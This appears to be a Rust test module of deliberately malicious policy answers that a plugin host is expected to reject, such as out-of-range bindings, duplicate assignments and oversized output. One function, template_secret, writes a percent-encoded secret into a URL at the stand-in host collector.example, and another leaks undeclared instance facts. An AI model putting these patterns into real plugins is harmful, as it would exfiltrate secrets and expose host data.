//! Answers that the host must refuse, or must not have made possible.

use bootlace_policy::wire::{Assignment, Decision};
use bootlace_policy::{
    Candidate, Encoding, Fragment, Outcome, PolicyError, Request, Resolution, Variable, Violation,
};

type Answer = Result<Outcome, PolicyError>;

/// 128 KiB of warnings.
pub(crate) fn long() -> Answer {
    let mut resolution = Resolution::new();
    for _ in 0..2_048 {
        resolution.warn("w".repeat(64));
    }
    Ok(resolution.into())
}

/// Binds the first variable to the candidate after the last.
pub(crate) fn out_of_range(request: &Request) -> Answer {
    let after_last = request.wire().candidates.traits.len() as u32;
    assign([(0, Decision::Bind(after_last))])
}

/// Binds a variable to another variable's candidate.
pub(crate) fn foreign_candidate(request: &Request) -> Answer {
    let first_ends = request.wire().variables.candidate_ends.first();
    let rows = request.wire().candidates.traits.len() as u32;
    match first_ends.filter(|end| **end < rows) {
        Some(foreign) => assign([(0, Decision::Bind(*foreign))]),
        None => Err(unsuitable("a second variable with a candidate")),
    }
}

/// Binds a plain variable to a secret candidate: its own if it has one, else another variable's.
pub(crate) fn secret_to_plain(request: &Request) -> Answer {
    let plain = || request.variables().filter(|variable| !variable.is_secret());
    let own = plain().flat_map(Variable::candidates).find(is_secret);
    if let Some(own) = own {
        let mut resolution = Resolution::new();
        resolution.bind(own);
        return Ok(resolution.into());
    }
    let (Some(variable), Some(secret)) = (index_of(request, false), first_secret(request)) else {
        return Err(unsuitable("a plain variable and a secret candidate"));
    };
    assign([(variable, Decision::Bind(secret))])
}

/// Puts a secret into a URL of its own choice, in a plain variable if there is one.
pub(crate) fn template_secret(request: &Request) -> Answer {
    let carrier = request.variables().find(|variable| !variable.is_secret());
    let secret = request.variables().flat_map(Variable::candidates).find(is_secret);
    let (Some(carrier), Some(secret)) = (carrier.or(request.variables().next()), secret) else {
        return Err(unsuitable("a secret candidate"));
    };
    let mut resolution = Resolution::new();
    let url = Fragment::literal("https://collector.example/");
    let stolen = Fragment::reference(secret, Encoding::PercentEncode);
    resolution.template(carrier, [url, stolen]);
    Ok(resolution.into())
}

/// Assigns the first variable twice.
pub(crate) fn duplicate(_: &Request) -> Answer {
    assign([(0, Decision::Omit), (0, Decision::Omit)])
}

/// Assigns a variable that nobody asked about.
pub(crate) fn unknown_variable() -> Answer {
    assign([(u32::MAX, Decision::Omit)])
}

/// Omits everything, required variables included.
pub(crate) fn omit_all(request: &Request) -> Answer {
    let mut resolution = Resolution::new();
    for variable in request.variables() {
        resolution.omit(variable);
    }
    Ok(resolution.into())
}

/// Denies, quoting every fact about the instance that it can see; only `region` is declared.
pub(crate) fn undeclared_fact(request: &Request) -> Answer {
    let instance = request.instance();
    let fact = |value: &Option<String>| value.clone().unwrap_or_else(|| "withheld".into());
    let mut message = format!(
        "region={} zone={} instance-id={} attributes={}",
        fact(&instance.region),
        fact(&instance.zone),
        fact(&instance.instance_id),
        instance.attributes.len(),
    );
    for attribute in &instance.attributes {
        message += &format!(" {}={}", attribute.key, attribute.value);
    }
    let labels = request.release().map_or(0, |release| release.labels.len());
    message += &format!(" release-labels={labels}");
    Ok(Violation::new("facts-seen", message).into())
}

fn assign<const N: usize>(assignments: [(u32, Decision); N]) -> Answer {
    let mut resolution = Resolution::new();
    for (variable, decision) in assignments {
        resolution.assignments.push(Assignment { variable, decision });
    }
    Ok(resolution.into())
}

fn is_secret(candidate: &Candidate<'_>) -> bool {
    candidate.is_secret()
}

fn index_of(request: &Request, secret: bool) -> Option<u32> {
    let found = request.variables().position(|variable| variable.is_secret() == secret);
    found.map(|index| index as u32)
}

fn first_secret(request: &Request) -> Option<u32> {
    let found = request.wire().candidates.traits.iter().position(|traits| traits & 1 != 0);
    found.map(|index| index as u32)
}

fn unsuitable(needs: &str) -> PolicyError {
    PolicyError::InvalidInput(format!("this mode needs {needs}"))
}
